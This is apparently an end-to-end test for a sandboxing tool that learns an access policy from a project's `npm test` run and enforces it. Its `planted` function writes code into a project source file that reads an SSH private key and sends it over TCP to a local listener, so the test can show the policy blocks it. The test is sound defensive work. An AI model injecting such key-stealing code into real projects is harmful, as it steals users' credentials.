// A policy learned from `npm test` of a small project: it lets the same through, and stops what was planted in it.
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { brief, check, CHECKOUT, exec, POLICYC, BACKEND, session, startSession, suite, until } from "./harness.mjs";

const PLACE = "/srv/e2e-learn";
const PROJECT = join(PLACE, "app");
const DRAFT = join(PLACE, "draft.pol");
const POLICY = join(PLACE, "agent.pol");
const KEY = "/root/.ssh/id_rsa";
const COMMAND = ["npm", "test"];
const ENVIRONMENT = {
  PATH: "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", LANG: "C.UTF-8", HOME: "/root", npm_config_update_notifier: "false", npm_config_fund: "false",
};
const BINDING = ["--set", `workspace=${PROJECT}`];

const policyc = (...args) => exec(POLICYC, args, { cwd: PROJECT, env: ENVIRONMENT });
const refusals = (events) => events.filter(({ decision }) => decision === "deny" || decision === "kill");
const run = (policy, command = COMMAND) => session(policy, command, { cwd: PROJECT, env: ENVIRONMENT, flags: BINDING });

const show = (text) => { process.stdout.write(`${text.trim().replace(/^/gm, "  # ")}\n`); };

function prepare() {
  rmSync(PLACE, { recursive: true, force: true });
  mkdirSync("/root/.ssh", { recursive: true });
  writeFileSync(KEY, "the key\n");
  cpSync(join(CHECKOUT, "test/e2e/fixtures/learn-project"), PROJECT, { recursive: true });
}

function learns() {
  const learned = policyc("learn", "--backend", BACKEND, "-o", DRAFT, "--", ...COMMAND);
  check("the command works as ever", learned.status === 0 && learned.out.includes("# pass 5"), learned);
  check("no event is lost, and every access can be said", /^policyc: \d+ accesses learned; /m.test(learned.err) && !/lost|missing|not in the draft/.test(learned.err),
    learned.err);
  const draft = readFileSync(DRAFT, "utf8");
  show(draft);
  for (const words of [["lint", DRAFT], ["fmt", "--check", DRAFT], ["test", DRAFT]]) {
    const result = policyc(...words);
    check(`${words[0]} has nothing to say of the draft`, result.status === 0 && !/warning|error/.test(result.err), result);
  }
  const refused = policyc("run", "--backend", BACKEND, ...BINDING, DRAFT, "--", "true");
  check("nothing runs under a draft", refused.status === 1 && refused.err.includes("unreviewed-draft"), refused);
  writeFileSync(POLICY, draft.replace(/^draft .*\n/m, ""));
}

function enforces() {
  for (const time of ["first", "second"]) {
    const result = run(POLICY);
    check(`the same command passes, the ${time} time`, result.status === 0 && result.out.includes("# pass 5"), result.out + result.err);
    check(`and nothing is denied, the ${time} time`, refusals(result.events).length === 0,
      refusals(result.events).map(({ exe, op, target }) => `${exe}: ${op} ${target}`).join("\n"));
  }
}

/** What a package that was taken over would do, before its work. */
const planted = (port) => `
import { connect } from "node:net";
import { readFileSync as steal } from "node:fs";
let loot = "nothing";
try { loot = steal(${JSON.stringify(KEY)}, "utf8"); } catch (thrown) { console.log("planted: read", thrown.code); }
connect(${port}, "127.0.0.1", function () { this.end(loot); }).on("error", (thrown) => console.log("planted: connect", thrown.code));
`;

async function stops() {
  const loot = [];
  const server = createServer((socket) => { socket.setEncoding("utf8").on("data", (text) => { loot.push(text); }).on("error", () => undefined); });
  await new Promise((resolve) => { server.listen(8099, "127.0.0.1", resolve); });
  const words = join(PROJECT, "src/words.js");
  writeFileSync(words, planted(8099) + readFileSync(words, "utf8"));
  // In the background: the server is in this process.
  const free = startSession(join(PLACE, "open.pol"), COMMAND, { cwd: PROJECT, env: ENVIRONMENT });
  await free.ended;
  check("without the policy the key is stolen", await until(() => loot.includes("the key\n"), 10_000), loot);
  loot.length = 0;
  const held = await startSession(POLICY, COMMAND, { cwd: PROJECT, env: ENVIRONMENT, flags: BINDING }).ended;
  const denied = refusals(held.events);
  check("with it the key is not read", denied.some(({ op, target }) => op === "read" && target === KEY), brief(denied));
  check("nor is anything sent", loot.length === 0 && denied.some(({ op, target }) => op === "connect" && target === "127.0.0.1:8099/tcp"),
    { loot, denied: brief(denied) });
  check("and nothing else is denied", denied.every(({ target }) => target === null || target === KEY || target === "127.0.0.1:8099/tcp"), brief(denied));
  server.close();
}

function adds() {
  const command = ["sh", "-c", "hostname >name && cat /etc/hostname"];
  const before = run(POLICY, command);
  check("other work is denied", refusals(before.events).length > 0, before);
  const more = join(PLACE, "more.pol");
  const learned = policyc("learn", "--backend", BACKEND, ...BINDING, "--onto", POLICY, "-o", more, "--", ...command);
  check("--onto adds to a policy", learned.status === 0, learned);
  const [known, added] = [readFileSync(POLICY, "utf8"), readFileSync(more, "utf8")];
  show(added.slice(known.length));
  check("only what it is missing", added.startsWith(known.trimEnd()) && added.includes('"/etc/hostname"') && !added.slice(known.length).includes('"/usr/**"'), added);
  writeFileSync(more, added.replace(/^draft .*\n/m, ""));
  const after = run(more, command);
  check("which is then permitted", after.status === 0 && refusals(after.events).length === 0, after);
  const again = policyc("learn", "--backend", BACKEND, ...BINDING, "--onto", more, "--", ...command);
  check("and then nothing is missing", again.status === 0 && again.err.includes("nothing is missing"), again);
}

export async function runLearn() {
  suite("learn");
  prepare();
  writeFileSync(join(PLACE, "open.pol"), 'policy "open"\ndefault allow read, write, create, delete, setattr, exec, load, connect, bind, privilege\n');
  learns();
  enforces();
  adds();
  await stops();
}
